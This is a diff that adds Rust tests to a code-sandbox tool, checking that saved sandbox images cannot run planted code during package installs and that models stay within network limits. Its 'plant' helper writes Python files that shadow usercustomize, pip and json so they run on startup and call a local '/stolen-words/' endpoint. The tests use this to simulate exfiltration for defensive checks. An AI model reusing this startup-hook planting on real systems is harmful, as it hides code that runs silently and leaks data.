@@ -262,6 +262,62 @@ fn a_model_has_them_where_the_operator_allows_it() {
     assert!(answer.to_string().contains("when it is made"), "{answer}");
 }
 
+/// What runs by itself when Python starts, wherever it finds it, and calls the index.
+fn plant(shop: &Shop) -> String {
+    let planted = format!(
+        "import urllib.request\ntry: urllib.request.urlopen('{}/stolen-words/', timeout=9)\nexcept Exception: pass\n",
+        shop.index.python()
+    );
+    format!(
+        "import os, site\n\
+         for place in [site.getusersitepackages(), '/workspace']:\n    \
+             os.makedirs(place, exist_ok=True)\n    \
+             for name in ['usercustomize', 'pip', 'json']:\n        \
+                 open(f'{{place}}/{{name}}.py', 'w').write({planted:?})\n"
+    )
+}
+
+#[test]
+fn what_lies_in_a_saved_image_is_no_code_where_packages_are_installed() {
+    needs_sandboxes!();
+    let shop = Shop::open();
+    let id = shop.run(&["create"]).stdout.trim().to_owned();
+    shop.run(&["exec", &id, "--", "python3", "-I", "-c", &plant(&shop)]).expect(0, "");
+    let saved = shop.run(&["save", &id, "trap"]);
+    assert_eq!(saved.code, Some(0), "{}", saved.stderr);
+    let run = ["run", "--image", "saved:trap", "python", "import sys; sys.path.pop(0); print(1)", "--package", "small"];
+    let done = shop.run(&run);
+    assert!(shop.index.fetched("small-2.0") > 0, "{}", done.stderr);
+    assert_eq!(shop.index.fetched("stolen-words"), 0, "{:?}", shop.index.paths);
+    // A login is for no image that anybody could have prepared.
+    let mut command = shop.command(&["run", "--image", "saved:trap", "python", "1", "--package", "inner"]);
+    let done = Done::from(command.env("PIP_INDEX_URL", "https://me:word@localhost:1/simple").output().unwrap());
+    done.says("has a login, which no saved image may use");
+}
+
+#[test]
+fn a_model_has_nothing_installed_for_what_it_saved_beyond_its_own_reach() {
+    needs_sandboxes!();
+    let shop = Shop::open();
+    let try_out = |flags: &[&str]| {
+        let mut client = Client::hello_with(&shop.world, flags, "2025-11-25", |command| shop.set_up(command));
+        let made = call_tool(&mut client, json!({ "name": "create_sandbox", "arguments": {} }));
+        let id = &made["result"]["structuredContent"]["sandbox_id"];
+        let saved = json!({ "name": "save_sandbox", "arguments": { "sandbox_id": id, "name": "own" } });
+        let answer = call_tool(&mut client, saved);
+        assert_eq!(answer["result"]["isError"], false, "{answer}");
+        let run = json!({ "name": "run_code", "arguments": {
+            "language": "python", "code": SMALL, "packages": ["small"], "image": "saved:own" } });
+        call_tool(&mut client, run)
+    };
+    let answer = try_out(&["--allow-packages"]);
+    assert_eq!(answer["result"]["isError"], true, "{answer}");
+    assert!(answer.to_string().contains("--max-network 127.0.0.1"), "{answer}");
+    assert_eq!(shop.index.asked(), 0);
+    let answer = try_out(&["--allow-packages", "--max-network", &format!("127.0.0.1:{}", shop.index.port)]);
+    assert_eq!(answer["result"]["structuredContent"]["packages"], json!(["inner==0.5", "small==2.0"]), "{answer}");
+}
+
 #[test]
 fn a_caller_that_goes_away_does_not_spoil_it_for_the_next() {
     needs_sandboxes!();
